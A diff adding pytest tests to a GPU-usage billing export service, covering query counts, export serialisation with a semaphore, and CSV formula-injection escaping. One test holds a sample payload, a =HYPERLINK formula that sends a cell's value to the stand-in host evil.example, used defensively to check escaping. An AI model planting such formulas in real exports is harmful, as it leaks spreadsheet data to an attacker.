@@ -3,18 +3,23 @@ the CSV's totals equal the usage API's exactly; cost is raw GPU-hours x the mode
 
 from __future__ import annotations
 
+import asyncio
 import csv
 import io
 import secrets
+from collections.abc import AsyncIterator
 from datetime import UTC, datetime, timedelta
 from decimal import Decimal
 from typing import Any
 
 import pytest
+import sqlalchemy as sa
 from sqlalchemy.engine import URL
+from sqlalchemy.ext.asyncio import AsyncConnection
 
 from tests.support.postgres import url_string
 from tests.support.timekeeper import Api, Tokens, bearer, ok, sha256
+from timekeeper.billing.chargeback import escape_formula, in_turn
 from timekeeper.clock import ManualClock
 from timekeeper.settings import Settings
 
@@ -138,6 +143,49 @@ async def test_json_and_csv_hold_the_same_rows(api: Api, history: None) -> None:
     assert {row["period_start"] for row in answer["rows"]} == {"2026-02-23T00:00:00Z", "2026-03-02T00:00:00Z"}
 
 
+async def test_an_export_runs_as_many_statements_for_59_days_as_for_2_months(
+    api: Api, history: None, connection: AsyncConnection
+) -> None:
+    statements: list[str] = []
+
+    def count(_conn: object, _cursor: object, statement: str, *_: object) -> None:
+        statements.append(statement)
+
+    sa.event.listen(connection.sync_connection, "before_cursor_execute", count)
+    try:
+        monthly = await export_csv(api, period="monthly")
+        by_month = len(statements)
+        daily = await export_csv(api, period="daily")
+    finally:
+        sa.event.remove(connection.sync_connection, "before_cursor_execute", count)
+
+    # 2 periods x 2 namespaces, then 59 days x 2: the same statements either way.
+    assert len({row["period_start"] for row in daily}) > len({row["period_start"] for row in monthly})
+    assert len(statements) - by_month == by_month
+
+
+async def test_a_second_export_waits_until_the_first_has_ended() -> None:
+    log: list[str] = []
+
+    async def rows(name: str) -> AsyncIterator[dict[str, object]]:
+        log.append(f"{name} reads")
+        yield {"name": name}
+        log.append(f"{name} ends")
+
+    turns = asyncio.Semaphore(1)
+    first = in_turn(turns, rows("first"))
+    await anext(first)
+    second = asyncio.create_task(anext(in_turn(turns, rows("second"))))
+    for _ in range(10):
+        await asyncio.sleep(0)
+    waited = list(log)
+    async for _ in first:
+        pass
+
+    assert (waited, await second) == (["first reads"], {"name": "second"})
+    assert log == ["first reads", "first ends", "second reads"]
+
+
 async def test_a_scoped_reader_exports_only_its_namespaces(api: Api, history: None) -> None:
     rows = await export_csv(api, token=TEAM_B_READER)
 
@@ -163,3 +211,28 @@ async def test_a_range_backwards_or_too_fine_is_refused(api: Api) -> None:
 
 async def test_the_export_needs_a_reader(api: Api) -> None:
     assert (await api.client.get("/billing/chargeback")).status_code == 401
+
+
+async def test_a_gpu_name_that_is_a_formula_is_escaped_in_csv_only(api: Api, clock: ManualClock) -> None:
+    """OWASP's CSV injection rule: a tenant-written cell starting with =, +, -, @, tab or CR gets a quote."""
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    clock.set(MARCH + timedelta(days=3, minutes=11))
+    body = dict(pod="f1", pod_uid="uid-f1", start=MARCH + timedelta(days=3), minutes=10, gpu_share=1)
+    ok(await api.report(namespace="team-a", **body, gpus=gpus(formula, 50.0)))
+    clock.set(MARCH + timedelta(days=20))
+
+    rows = await export_csv(api)
+    answer = ok(
+        await api.client.get(
+            "/billing/chargeback", params={**WINDOW, "format": "json"}, headers=bearer(api.tokens.admin)
+        )
+    )
+
+    assert [row["gpu_model"] for row in rows] == ["'" + formula]
+    assert [row["gpu_model"] for row in answer["rows"]] == [formula]
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
+async def test_each_formula_prefix_is_escaped(text: str) -> None:
+    assert escape_formula(text) == "'" + text
+    assert escape_formula("NVIDIA-H100") == "NVIDIA-H100"
